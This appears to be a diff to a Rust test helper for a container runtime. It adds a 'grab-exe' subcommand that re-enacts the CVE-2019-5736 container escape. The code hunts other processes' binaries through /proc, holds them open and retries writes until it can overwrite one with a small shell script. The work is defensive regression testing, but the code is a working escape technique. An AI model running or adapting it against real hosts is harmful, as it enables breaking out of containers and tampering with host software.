@@ -506,6 +506,89 @@ fn unsafe_isatty(fd: i32) -> bool {
     unsafe { libc::isatty(fd) == 1 }
 }
 
+/// The CVE-2019-5736 attacker (security tests): until STOPFILE exists, open /proc/PID/exe of
+/// every other process it can see (O_PATH) whose binary path contains NAME, try to open it for
+/// writing at once, and keep retrying writes through /proc/self/fd/N (they succeed once no
+/// process executes the binary any more). Prints one JSON line: how many binaries it grabbed,
+/// how many writes got through, and the errno of the last failed attempts.
+fn grab_exe(stop: &str, only: &str) -> Value {
+    use std::os::unix::fs::MetadataExt;
+    let me = fs::metadata("/proc/self/exe").map(|m| (m.dev(), m.ino())).unwrap_or((0, 0));
+    let self_pid = std::process::id().to_string();
+    let mut grabbed: Vec<(i32, String)> = Vec::new();
+    let mut seen = std::collections::HashSet::new();
+    let mut written = Vec::new();
+    let (mut open_err, mut write_err) = (String::new(), String::new());
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
+    let mut finishing = 0;
+    loop {
+        if std::path::Path::new(stop).exists() || std::time::Instant::now() > deadline {
+            // A few last rounds of writes once the runtime has surely exited.
+            finishing += 1;
+            if finishing > 20 {
+                break;
+            }
+            std::thread::sleep(std::time::Duration::from_millis(10));
+        }
+        if let Ok(rd) = fs::read_dir("/proc") {
+            for e in rd.flatten() {
+                let name = e.file_name().to_string_lossy().into_owned();
+                if !name.bytes().all(|b| b.is_ascii_digit()) || name == self_pid {
+                    continue;
+                }
+                let path = CString::new(format!("/proc/{}/exe", name)).unwrap();
+                // SAFETY: path is a valid C string.
+                let fd = unsafe { libc::open(path.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
+                if fd < 0 {
+                    open_err = errno_name(std::io::Error::last_os_error().raw_os_error().unwrap_or(0));
+                    continue;
+                }
+                // SAFETY: st is written by fstat on success.
+                let mut st: libc::stat = unsafe { std::mem::zeroed() };
+                let ok = unsafe { libc::fstat(fd, &mut st) } == 0;
+                if !ok || (st.st_dev, st.st_ino) == me || !seen.insert((st.st_dev, st.st_ino)) {
+                    // SAFETY: fd is ours.
+                    unsafe { libc::close(fd) };
+                    continue;
+                }
+                let target = fs::read_link(format!("/proc/self/fd/{}", fd)).unwrap_or_default();
+                if !target.to_string_lossy().contains(only) {
+                    // SAFETY: fd is ours.
+                    unsafe { libc::close(fd) };
+                    seen.remove(&(st.st_dev, st.st_ino));
+                    continue;
+                }
+                grabbed.push((fd, format!("pid {} {}", name, target.display())));
+            }
+        }
+        for (fd, what) in &grabbed {
+            if written.contains(what) {
+                continue;
+            }
+            let p = CString::new(format!("/proc/self/fd/{}", fd)).unwrap();
+            // SAFETY: p is a valid C string.
+            let w = unsafe { libc::open(p.as_ptr(), libc::O_WRONLY | libc::O_APPEND | libc::O_CLOEXEC) };
+            if w < 0 {
+                write_err = errno_name(std::io::Error::last_os_error().raw_os_error().unwrap_or(0));
+                continue;
+            }
+            let msg = b"#!/bin/sh\necho escaped\n";
+            // SAFETY: msg is valid for its length; w is ours.
+            let n = unsafe { libc::write(w, msg.as_ptr() as *const libc::c_void, msg.len()) };
+            unsafe { libc::close(w) };
+            if n > 0 {
+                written.push(what.clone());
+            }
+        }
+    }
+    json!({
+        "grabbed": grabbed.iter().map(|(_, w)| w.clone()).collect::<Vec<_>>(),
+        "written": written,
+        "open_error": open_err,
+        "write_error": write_err,
+    })
+}
+
 fn main() {
     let args: Vec<String> = std::env::args().collect();
     match args.get(1).map(|s| s.as_str()) {
@@ -516,12 +599,19 @@ fn main() {
                 std::process::exit(2);
             }
         },
+        Some("grab-exe") => match (args.get(2), args.get(3)) {
+            (Some(stop), Some(only)) => println!("{}", grab_exe(stop, only)),
+            _ => {
+                eprintln!("usage: checker grab-exe STOPFILE NAME");
+                std::process::exit(2);
+            }
+        },
         Some("sleep") => loop {
             // SAFETY: pause just waits for a signal.
             unsafe { libc::pause() };
         },
         _ => {
-            eprintln!("usage: checker report [--stat P] [--read P] [--open-w P] [--open-r P] [--create DIR] [--ptmx] | checker sleep");
+            eprintln!("usage: checker report [--stat P] [--read P] [--open-w P] [--open-r P] [--create DIR] [--ptmx] | checker sleep | checker grab-exe STOPFILE NAME");
             std::process::exit(2);
         }
     }
